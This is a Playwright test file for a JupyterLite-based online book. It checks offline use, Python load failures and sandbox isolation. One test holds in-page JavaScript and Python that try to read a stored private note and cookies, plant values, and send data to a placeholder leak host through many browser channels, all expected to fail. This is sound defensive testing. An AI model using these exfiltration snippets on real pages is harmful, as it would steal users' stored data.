"""The notebooks in JupyterLite: Python in a browser that reaches nothing but the site.

`make test` starts Python, after a failure, and checks an answer; `make lite-test` runs every
notebook.
"""

import json
import re

import pytest
from browsing import ARGUMENTS, BASE_PATH, ROOT, Pages, serving
from playwright.sync_api import expect

import lite
from nnbook.figures.myst import STATE_MIME

pytestmark = pytest.mark.slow

# As a teacher's machine has one in a classroom: not the loopback, so no service worker either.
CLASSROOM = "classroom.test"
SEALED = f"--host-resolver-rules=MAP {CLASSROOM} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
MINUTE = 60_000  # ms
REFERENCES = ("chapters/losses.ipynb", "Figure 3.1")
PANEL = "window.jupyterapp?.shell.currentWidget"
NOTEBOOKS = [path.relative_to(ROOT).as_posix() for path in lite.notebooks()]


@pytest.fixture(scope="module")
def classroom(html):
    """Serve the site for other machines, too; return its address."""
    with serving(html) as port:
        yield f"http://{CLASSROOM}:{port}{BASE_PATH}"


@pytest.fixture(scope="module")
def sealed_browser(chromium, browser_path):
    started = chromium.launch(executable_path=browser_path, args=[*ARGUMENTS, SEALED])
    yield started
    started.close()


class Reader:
    """A page of the sealed browser, and what it asked for."""

    def __init__(self, browser):
        self.context = browser.new_context(viewport={"width": 1280, "height": 1000})
        self.requested = []
        self.context.on("request", lambda request: self.requested.append(request.url))
        self.page = self.context.new_page()
        self.page.set_default_timeout(3 * MINUTE)

    def asked_elsewhere(self):
        """Return the addresses outside the site's host."""
        origin = "/".join(self.page.url.split("/")[:3]) + "/"
        return [url for url in self.requested if not url.startswith((origin, "data:", "blob:"))]


@pytest.fixture
def reader(sealed_browser):
    reader = Reader(sealed_browser)
    yield reader
    reader.context.close()


def open_by_menu(page, address, name):
    """Open a notebook as a reader does, from its page; return the frame that JupyterLite is in."""
    page.goto(f"{address}{name.removesuffix('.ipynb')}.html")
    page.locator("header .menu > summary").click()
    page.locator("header .menu a").first.click()
    frame = page.wait_for_selector("iframe").content_frame()
    frame.locator(".jp-Notebook .jp-Cell").first.wait_for()
    return frame


def run_all(page):
    """Run every cell, as the menu does, and return the notebook as it is then."""
    page.wait_for_function(f"{PANEL}?.sessionContext.isReady")
    page.evaluate(
        """() => {
          window.hasRun = false;
          const running = window.jupyterapp.commands.execute("notebook:run-all-cells");
          running.then(() => { window.hasRun = true; });
        }"""
    )
    page.wait_for_function("window.hasRun", timeout=30 * MINUTE)
    return page.evaluate(f"{PANEL}.content.model.toJSON()")


def stored(name):
    return json.loads((ROOT / name).read_text(encoding="utf-8"))


def code_cells(notebook):
    return {cell["id"]: cell for cell in notebook["cells"] if cell["cell_type"] == "code"}


def joined(text):
    return "".join(text)


def texts(cell):
    """Return what a cell's outputs say in words and numbers; streams in one piece."""
    found = []
    for output in cell["outputs"]:
        if output["output_type"] == "stream":
            found.append((output["name"], joined(output["text"])))
        elif output["output_type"] == "error":
            found.append(("error", output["ename"], output["evalue"]))
        else:
            data = output["data"]
            found += [(m, joined(data[m])) for m in ("text/plain", "text/html") if m in data]
    return found


def assert_all_ran(ran, name):
    expected, found = code_cells(stored(name)), code_cells(ran)
    assert list(found) == list(expected)
    assert [key for key, cell in found.items() if not cell["execution_count"]] == []
    different = {
        key: (texts(cell), texts(expected[key]))
        for key, cell in found.items()
        if texts(cell) != texts(expected[key])
    }
    assert different == {}


def assert_text_rendered(page, name):
    """The Markdown is shown as MyST: admonitions, folds and formulas, no directives."""
    formula = next(
        index
        for index, cell in enumerate(stored(name)["cells"])
        if cell["cell_type"] == "markdown" and "$" in joined(cell["source"])
    )
    # JupyterLab draws a cell when it comes into view, and shows its source for a moment.
    page.wait_for_function(
        f"""() => {{
          {PANEL}.content.scrollToItem({formula}, "center");
          const notebook = document.querySelector(".jp-Notebook");
          return notebook.querySelector(".katex, mjx-container")?.checkVisibility()
            && !/:::|\\{{ref\\}}/.test(notebook.innerText);
        }}""",
        polling=500,
        timeout=MINUTE,
    )


def assert_stored_pictures_shown(page, name):
    """Before a cell has run there are the stored pictures."""
    if "image/svg+xml" in (ROOT / name).read_text(encoding="utf-8"):
        pictures = page.locator(".jp-RenderedImage img, .jp-RenderedSVG img")
        expect(pictures.first).to_be_attached(timeout=MINUTE)


def assert_figures_live(page, ran):
    """Scroll to each figure; it is the live one, not a picture."""
    ids = [cell["id"] for cell in ran["cells"]]
    figures = [
        key
        for key, cell in code_cells(ran).items()
        if any(STATE_MIME in output.get("data", {}) for output in cell["outputs"])
    ]
    for key in figures:
        index = ids.index(key)
        page.evaluate(f"{PANEL}.content.scrollToItem({index}, 'center')")
        cell = page.locator(f'.jp-Notebook .jp-Cell[data-windowed-list-index="{index}"]')
        expect(cell.locator(".nn-figure").first).to_be_visible(timeout=MINUTE)
    return figures


@pytest.mark.exhaustive
@pytest.mark.parametrize("name", NOTEBOOKS)
def test_a_notebook_runs_in_a_classroom_without_internet(name, reader, classroom):
    frame = open_by_menu(reader.page, classroom, name)
    assert_text_rendered(frame, name)
    assert_stored_pictures_shown(frame, name)
    ran = run_all(frame)
    assert_all_ran(ran, name)
    assert_figures_live(frame, ran)
    if name == REFERENCES[0]:  # the extension that shows the book's references is there, too
        expect(frame.locator(".nnlib-number").first).to_have_text(REFERENCES[1])
    assert reader.asked_elsewhere() == []


ENDLESS = """
from nnbook import exercises
from nnbook.exercises import limit
def answer(*arguments):
    while True:
        try: count = 1
        except: pass
limit.SECONDS = 0.5
print(exercises.check("gradient_descent-tolerance", answer))
"""


def run_in_kernel(page, code):
    """Run code beside the notebook; return what it prints."""
    return page.evaluate(
        f"""async (code) => {{
          const future = {PANEL}.sessionContext.session.kernel.requestExecute({{ code }});
          let text = "";
          future.onIOPub = (message) => {{ text += message.content.text ?? ""; }};
          await future.done;
          return text;
        }}""",
        code,
    )


def test_without_python_the_reader_is_told_and_can_try_again(reader, address):
    waiting, reachable = [], None

    def answer(route):
        if reachable is None:
            waiting.append(route)
        elif reachable:
            route.continue_()
        else:
            route.abort()

    reader.context.route(re.compile(r"/python/pyodide-[^/]+/"), answer)
    page = open_by_menu(reader.page, address, "intro.ipynb")
    dialog, notice = page.locator(".jp-Dialog"), page.locator(".nnlib-notice")
    expect(notice).to_be_visible()
    expect(notice).to_contain_text("Python is starting in your browser.")
    reachable = False
    for route in waiting:
        route.abort()
    expect(dialog).to_contain_text("Python is not running", timeout=MINUTE)
    expect(notice).to_have_text("Python is not running")
    expect(dialog).to_contain_text("comes from 127.0.0.1")
    expect(dialog).to_contain_text("It could not be loaded")
    reachable = True
    dialog.get_by_role("button", name="Try again").click()
    expect(notice).to_be_hidden(timeout=3 * MINUTE)
    expect(dialog).to_have_count(0)
    assert "back to this line: while True:" in run_in_kernel(page, ENDLESS)
    endless = "{ code: 'while True: pass' }"
    page.evaluate(f"{PANEL}.sessionContext.session.kernel.requestExecute({endless}) && 0")
    page.wait_for_function(f"{PANEL}.sessionContext.session.kernel.status === 'busy'")
    page.locator("[data-command='notebook:interrupt-kernel']").click()
    expect(dialog).to_contain_text("A running cell cannot be interrupted here")
    dialog.get_by_role("button", name="Restart Python").click()
    expect(notice).to_contain_text("Python is starting")
    expect(notice).to_be_hidden(timeout=3 * MINUTE)
    assert run_in_kernel(page, "print(1 + 1)") == "2\n"
    kill = "from _pyodide_core import trigger_fatal_error; trigger_fatal_error()"
    page.evaluate(
        f"{PANEL}.sessionContext.session.kernel.requestExecute({{ code: '{kill}' }}) && 0"
    )
    expect(dialog).to_contain_text("Python is not running", timeout=MINUTE)
    expect(dialog).to_contain_text("fatal error")
    assert reader.asked_elsewhere() == []


# -- What a cell cannot do -------------------------------------------------------------------------

NOTE = "my private note"
RECORD = {"nnlib-book:marks": NOTE, "nnlib-book:own": "my own code"}
# Any JavaScript, in the page where outputs are: it looks for the record and sends it elsewhere.
IN_PAGE = """
(async () => {
  const found = [];
  const attempt = async (name, act) => {
    const late = new Promise((_, reject) => setTimeout(reject, 2000));
    late.catch(() => null);
    try {
      found.push(`${name}: ${await Promise.race([act(), late])}`);
    } catch {
      // as it should be
    }
  };
  const made = (name, properties) => {
    const element = Object.assign(document.createElement(name), properties);
    document.body.append(element);
    return element;
  };
  const fresh = () => made("iframe", {}).contentWindow;
  const asked = (store, message) => store.port.postMessage(message);
  await attempt("own", () => localStorage.getItem("nnlib-book:marks") || Promise.reject());
  await attempt("parent", () => parent.localStorage.getItem("nnlib-book:marks"));
  await attempt("fresh", () => fresh().localStorage.getItem("nnlib-book:marks"));
  await attempt("cookies", () => document.cookie);
  await attempt("caches", () => caches.keys());
  await attempt("files", () => navigator.storage.getDirectory());
  await attempt("worker", () => navigator.serviceWorker.getRegistrations());
  await attempt("plant", () => localStorage.setItem("nnlib-book:own", "PLANTED"));
  for (const [name, entry] of Object.entries({ "nnlib-book:own": 1, "/nnlib-book:own/x": 2 }))
    asked(localStorage, { type: "keep", entry: name, value: `"PLANTED${entry}"` });
  const leak = `ELSEWHEREleak-`;
  await attempt("fetch", () => fetch(`${leak}fetch`, { mode: "no-cors" }));
  await attempt("frame", () => fresh().fetch(`${leak}frame`, { mode: "no-cors" }));
  await attempt("xml", () => {
    const request = new XMLHttpRequest();
    request.open("GET", `${leak}xml`, false);
    request.send();
  });
  navigator.sendBeacon(`${leak}beacon`, "note");
  new Image().src = `${leak}image`;
  for (const rel of ["stylesheet", "prefetch", "icon"]) made("link", { rel, href: leak + rel });
  for (const name of ["script", "iframe", "embed", "video"]) made(name, { src: leak + name });
  made("form", { action: `${leak}form` }).submit();
  made("form", { action: `${leak}form`, target: "_blank" }).submit();
  made("a", { href: `${leak}download`, download: "x" }).click();
  made("a", { href: `${leak}link`, target: "_blank" }).click();
  window.open(`${leak}open`);
  await attempt("window", () => fresh().open(`${leak}window`).name);
  await attempt("top", () => { top.location = `${leak}top`; });
  await new Promise((resolve) => setTimeout(resolve, 1000));
  globalThis.found = found;
})();
"""
IN_PYTHON = """
import js
from pyodide.http import open_url, pyfetch
reached = []
for name, act in {
    "open": lambda: open_url("ELSEWHEREleak-url"),
    "script": lambda: js.importScripts("ELSEWHEREleak-import"),
    "storage": lambda: js.localStorage.getItem("nnlib-book:marks"),
    "worker": lambda: js.Worker.new("ELSEWHEREleak-worker"),
    "caches": lambda: js.caches.keys(),
}.items():
    try:
        act()
        reached.append(name)
    except Exception:
        pass
try:
    await pyfetch("ELSEWHEREleak-pyfetch")
    reached.append("pyfetch")
except Exception:
    pass
print(reached)
"""
SHOW = "from IPython.display import Javascript, display\ndisplay(Javascript({!r}))"
RUN_CELL = """async (source) => {
  const notebook = PANEL.content;
  notebook.model.sharedModel.insertCell(0, { cell_type: "code", source });
  notebook.activeCellIndex = 0;
  await window.jupyterapp.commands.execute("notebook:run-cell");
}""".replace("PANEL", PANEL)
HEARD = []


class Listening(Pages):
    """Another server, which notes what it is asked for."""

    def log_request(self, *args):
        HEARD.append(self.path)


def kept(page):
    return page.evaluate("(names) => names.map((name) => localStorage.getItem(name))", [*RECORD])


def test_a_cell_neither_reads_nor_plants_nor_sends(reader, address, html):
    page = reader.page
    page.goto(f"{address}intro.html")
    page.evaluate("(record) => Object.assign(localStorage, record)", RECORD)
    before = kept(page)
    frame = open_by_menu(page, address, "intro.ipynb")
    place = page.url
    asked = []

    def answer(dialog):
        if dialog.type == "beforeunload":
            dialog.accept()
        else:
            asked.append(dialog.message)
            dialog.dismiss()

    page.on("dialog", answer)
    frame.wait_for_function(f"{PANEL}?.sessionContext.isReady")
    with serving(html, Listening) as port:
        elsewhere = f"http://127.0.0.1:{port}{BASE_PATH}"
        said = run_in_kernel(frame, IN_PYTHON.replace("ELSEWHERE", elsewhere))
        frame.evaluate(RUN_CELL, SHOW.format(IN_PAGE.replace("ELSEWHERE", elsewhere)))
        frame.wait_for_function("window.found", timeout=MINUTE)
        assert (said, frame.evaluate("found")) == ("[]\n", ["plant: undefined"])
        # It can leave the frame empty, for nothing but the site is shown there.
        frame.evaluate("(address) => { location = address; }", f"{elsewhere}leak-location")
        page.wait_for_timeout(1000)
        assert page.evaluate("document.querySelector('iframe') !== null")
    assert [path for path in HEARD if "leak" in path] == []
    assert kept(page) == before
    assert (page.url, len(reader.context.pages)) == (place, 1)
    assert {*asked} == {
        f"This leads out of the book, to the address\n\n{elsewhere}leak-{name}"
        for name in ("link", "open")
    }


def test_by_itself_the_app_does_not_run(reader, address):
    """Opened at the address of its frame it leads to the page with the frame; so does a link."""
    reader.page.goto(f"{address}lite/notebooks/index.html?path=intro.ipynb")
    frame = reader.page.wait_for_selector("iframe").content_frame()
    assert reader.page.url == f"{address}lite/index.html?path=intro.ipynb"
    assert frame.evaluate("self.origin") == "null"
    with reader.context.expect_page() as opened:
        frame.get_by_role("link", name="Learn to build it").click()
    assert opened.value.url == f"{address}lite/index.html?path=chapters%2Fnetworks.ipynb"


def test_what_a_reader_wrote_is_there_again_and_can_be_downloaded(reader, address):
    frame = open_by_menu(reader.page, address, "intro.ipynb")
    frame.wait_for_function(f"{PANEL}?.sessionContext.isReady")
    frame.evaluate(RUN_CELL, "written = 'by me'")
    frame.evaluate("window.jupyterapp.commands.execute('docmanager:save')")
    with reader.page.expect_download() as saved:
        frame.evaluate("window.jupyterapp.commands.execute('docmanager:download')")
    downloaded = json.loads(saved.value.path().read_text(encoding="utf-8"))
    assert saved.value.suggested_filename == "intro.ipynb"
    assert joined(downloaded["cells"][0]["source"]) == "written = 'by me'"
    frame = open_by_menu(reader.page, address, "intro.ipynb")
    expect(frame.locator(".jp-Notebook .jp-Cell").first).to_contain_text("by me")


def test_the_menu_offers_it_on_a_server_alone(watched, address, html):
    served = watched(f"{address}chapters/losses.html")
    served.locator("header .menu > summary").click()
    expect(served.locator("header .menu a").first).to_have_text("Open in JupyterLite")
    expect(served.locator("header .menu a").first).to_be_visible()
    file = watched((html / "chapters" / "losses.html").as_uri())
    file.locator("header .menu > summary").click()
    expect(file.get_by_text("Run in Binder")).to_be_visible()
    expect(file.get_by_text("Open in JupyterLite")).to_be_hidden()
